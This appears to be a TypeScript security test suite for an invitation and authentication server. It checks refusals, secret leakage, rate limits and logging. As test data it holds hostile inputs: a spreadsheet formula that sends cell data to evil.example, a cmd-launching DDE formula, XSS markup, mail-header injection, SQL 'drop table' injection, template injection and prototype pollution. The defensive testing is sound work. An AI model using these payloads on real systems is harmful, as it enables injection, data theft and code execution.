import { format } from 'node:util';

import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';

import { northwind, toAnswer } from './abuse/Abuse.js';
import { createAbuseWorld } from './abuse/AbuseWorld.js';
import type { AbuseWorld } from './abuse/AbuseWorld.js';
import { accountAbuses } from './abuse/accountAbuses.js';
import { requestAbuses } from './abuse/requestAbuses.js';
import { sessionAbuses } from './abuse/sessionAbuses.js';
import { tokenAbuses } from './abuse/tokenAbuses.js';
import { verificationAbuses } from './abuse/verificationAbuses.js';
import { documentedOperations, operationOf } from './support/documentedOperations.js';
import type { DocumentedOperation } from './support/documentedOperations.js';
import { writeOptions } from './support/startTestServer.js';

let world: AbuseWorld;
const log: string[] = [];

beforeAll(async () => {
  for (const level of ['log', 'info', 'warn', 'error', 'debug'] as const) {
    vi.spyOn(console, level).mockImplementation((...parts) => void log.push(format(...parts)));
  }
  world = await createAbuseWorld();
}, 60_000);

afterAll(async () => {
  vi.restoreAllMocks();
  await world.server.close();
});

// What tells how the server is made: stack traces, SQL, paths, names of what it runs on.
const innards =
  /\n\s+at |node:|node_modules|\.[jt]s\b|\/examples\/|\b(select|update) .* (from|set)\b|insert into|\binvites\.\w|relation "|constraint|syntax|SQLSTATE|pglite|postgres|kysely|\bhono|better-auth|\bzod|x-powered-by|\nserver:/i;

const codesWithData: Record<string, readonly string[]> = {
  validation: ['code', 'fields'],
  rate_limited: ['code', 'retryAfterMs'],
  invite_not_pending: ['code', 'status'],
  wrong_account: ['code', 'invitedEmail'],
};

const abuses = [...sessionAbuses, ...tokenAbuses, ...verificationAbuses, ...accountAbuses, ...requestAbuses];

describe('is refused, and nothing leaks', () => {
  it.each(abuses.map((abuse) => [abuse.name, abuse] as const))('%s', async (_name, { send, status, code, mayTell }) => {
    const answer = await toAnswer(await send(world));
    const told = `${answer.head}\n${answer.body}`;
    const secrets = world.secrets.filter((secret) => !mayTell?.(world).includes(secret));

    expect([answer.status, answer.body]).toEqual([status, expect.any(String)]);
    expect(secrets.filter((secret) => told.includes(secret))).toEqual([]);
    expect(innards.exec(told)?.[0]).toBeUndefined();
    expect(codeOf(answer.body, code)).toBe(code);
  });
});

/** The code of a refusal that has what belongs to the code, and nothing else. */
function codeOf(body: string, expected: string | null): unknown {
  if (expected === null) return null;
  const { error, ...others } = JSON.parse(body) as { error: Record<string, unknown> };
  const allowed = codesWithData[String(error.code)] ?? ['code'];
  expect([Object.keys(others), Object.keys(error).toSorted()]).toEqual([[], allowed.toSorted()]);
  return error.code;
}

it('changes nothing', async () => {
  const client = world.owner.invites();
  const { items, totalCount } = await client.userInvites({ limit: 50 });

  expect(totalCount).toBe(Object.keys(world.invites).length);
  expect(Object.fromEntries(items.map(({ email, status, roles }) => [email, `${status} ${roles[0]!.key}`]))).toEqual({
    'open@target.example': 'pending member',
    'superseded@target.example': 'pending member',
    'canceled@target.example': 'canceled member',
    'expired@target.example': 'expired member',
    'accepted@target.example': 'accepted member',
    'declined@target.example': 'declined member',
  });
  const { user } = (await (await world.stranger.get('/api/viewer')).json()) as { user: { emailVerified: boolean } };
  expect(user.emailVerified).toBe(false);
  expect(Object.keys(Object.prototype)).toEqual([]);
});

it('two accepts at once make one membership', async () => {
  const { server, invites } = world;
  const invitee = server.session();
  await invitee.signUp(invites.open.email);
  const accept = () => invitee.send('/api/invite-tokens/accept', { token: invites.open.token });

  const answers = await Promise.all(Array.from({ length: 8 }, accept));

  expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 200));
  const { organizations } = (await (await invitee.get('/api/viewer')).json()) as { organizations: unknown[] };
  expect(organizations).toHaveLength(1);
});

describe('stays text', () => {
  it.each([
    ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ['a formula with a command', "@SUM(1+1)*cmd|'/C calc'!A0"],
    ['HTML', '<img src=x onerror=alert(1)><a href="http://evil.example">x</a>'],
    ['a line break and a header', 'Eve\r\nBcc: all@evil.example'],
    ['a line break and another mail', 'Eve\r\n.\r\nMAIL FROM:<a@evil.example>'],
    ['an encoded word', '=?utf-8?q?=0D=0ABcc:_all=40evil.example?='],
    ['SQL', "'); drop table invites.invites; --"],
    ['a template', '{{constructor.constructor("return process")()}} ${7*7}'],
  ])('%s, in names, message, data and mail', async (_name, text) => {
    const { owner, server } = world;
    const email = `${crypto.randomUUID()}@text.example`;
    const data = { text, __proto__: undefined, [text]: text };
    const userInvites = [{ email, firstName: text, lastName: text, data }];

    const answer = await owner.send(northwind, { userInvites, message: text });

    expect(answer.headers.get('Content-Type')).toBe('application/json');
    expect(answer.headers.get('X-Content-Type-Options')).toBe('nosniff');
    const { results } = (await answer.json()) as { results: { invite: object }[] };
    expect(results[0]!.invite).toMatchObject({ firstName: text, lastName: text, message: text, data: { text, [text]: text } });
    const mail = await server.mailTo(email);
    expect(mail.to).toBe(email);
    expect(mail.html).not.toMatch(/<img|<a href="http:\/\/evil|onerror=alert\(1\)>/);
    expect(mail.text + mail.html).not.toContain('evil.example');
    expect(await server.mailsTo('all@evil.example')).toEqual([]);
  });

  it('a key named __proto__, which changes nothing', async () => {
    const { owner } = world;
    const body = '{"userInvites":[{"email":"proto@text.example","data":{"__proto__":{"admin":true},"constructor":null}}]}';
    const headers = { 'Content-Type': 'application/json' };
    await owner.fetch(`${world.server.url}${northwind}`, { method: 'POST', headers, body });

    const { items } = await owner.invites().userInvites({ search: 'proto@text.example', limit: 1 });
    expect(items).toHaveLength(1);
    expect(({} as { admin?: boolean }).admin).toBeUndefined();
  });

  it('a name of an account and an organization that would add headers', async () => {
    const { server } = world;
    const eve = server.session();
    const name = 'Eve\r\nBcc: all@evil.example\r\n=?utf-8?q?=0D=0ABcc:_all=40evil.example?=';
    await eve.send('/api/auth/sign-up/email', { name, email: 'eve@text.example', password: 'correct horse' });
    const { user } = (await (await eve.get('/api/viewer')).json()) as { user: { id: string } };
    await server.auth.api.createOrganization({ body: { name, slug: 'eve', userId: user.id } });
    await eve.invites('eve').sendUserInvites({ userInvites: [{ email: 'victim@text.example' }] }, writeOptions());

    const mail = await server.mailTo('victim@text.example');
    expect(mail.to).toBe('victim@text.example');
    expect(mail.subject).not.toMatch(/[\r\n]|evil\.example/);
    expect(await server.mailsTo('all@evil.example')).toEqual([]);
  });
});

describe('a flood', () => {
  it.each([
    ['of changes by one person', () => world.admin.send(`${northwind}/cancel`, { ids: [] }), 121],
    [
      'of guessed tokens from one address',
      () => world.nobody.send('/api/invite-tokens/check', { token: crypto.randomUUID() }),
      151,
    ],
  ] as const)('%s is refused, with the time to wait', async (_name, send, times) => {
    world.server.clock.advance(60_000);
    const answers: Response[] = [];
    for (let sent = 0; sent < times; sent += 100) {
      answers.push(...(await Promise.all(Array.from({ length: Math.min(100, times - sent) }, () => send()))));
    }
    const refused = answers.filter(({ status }) => status === 429);

    expect(refused).toHaveLength(1);
    const { error } = (await refused[0]!.json()) as { error: { code: string; retryAfterMs: number } };
    expect([error.code, refused[0]!.headers.get('Retry-After')]).toEqual([
      'rate_limited',
      String(Math.ceil(error.retryAfterMs / 1000)),
    ]);
  });
});

it('has answered nothing that is not documented for its route', () => {
  const asked = new Set<string>();
  const undocumented = world.answers.flatMap(({ method, path, status, code }) => {
    const operation = operationOf(method, path);
    if (!operation) return [];
    asked.add(operation.operationId);
    return isDocumented(operation, status, code) ? [] : [`${operation.operationId}: ${status} ${code}`];
  });

  expect(undocumented).toEqual([]);
  expect([...asked].toSorted()).toEqual(documentedOperations.map(({ operationId }) => operationId).toSorted());
});

function isDocumented({ refusals }: DocumentedOperation, status: number, code: string | null): boolean {
  if (status === 200) return true;
  const codes = refusals[status];
  // What is not even HTTP gets no body.
  return code === null ? codes?.length === 0 || status === 400 : codes?.includes(code) === true;
}

describe('the log', () => {
  const tables = ['auth.session', 'auth.account', 'invites.invite_tokens', 'invites.address_tokens', 'invites.idempotency_keys'];

  it('has no secret in any line, also where the database fails under whoever sends one', async () => {
    const { server, owner, nobody, stranger, invites, verifications } = world;
    server.clock.advance(60_000);
    const { db } = server.auth.options.database;
    const account = { email: 'owner@northwind.example', password: 'northwind-demo' };
    for (const table of tables) {
      await sql`alter table ${sql.table(table)} rename to gone`.execute(db);
      const answers = [
        await owner.get('/api/viewer'),
        await owner.get('/api/auth/get-session'),
        await nobody.send('/api/auth/sign-in/email', account),
        await nobody.send('/api/auth/sign-up/email', { ...account, email: 'late@target.example', name: 'Late' }),
        await nobody.send('/api/invite-tokens/check', { token: invites.open.token }),
        await stranger.send('/api/verification', { token: verifications.foreign.token }),
        await owner.send(`${northwind}/${invites.open.id}/cancel`, {}, { 'Idempotency-Key': invites.open.token }),
      ];
      await sql`alter table ${sql.table(`${table.split('.')[0]}.gone`)} rename to ${sql.id(table.split('.')[1]!)}`.execute(db);
      expect([table, answers.some(({ status }) => status === 500)]).toEqual([table, true]);
    }

    const lines = log.join('\n');
    const secrets = [...world.secrets.filter((secret) => secret !== process.cwd()), 'late@target.example', ...sessions()];
    expect(secrets.filter((secret) => lines.includes(secret))).toEqual([]);
    expect(lines).toContain('POST /api/organizations/:organizationId/invites/:inviteId/cancel failed.');
  });

  /** What the cookies say who is signed in by. */
  function sessions(): string[] {
    return [world.owner, world.admin, world.stranger].map((session) => /session_token=([^.;]+)/.exec(session.cookie())![1]!);
  }
});
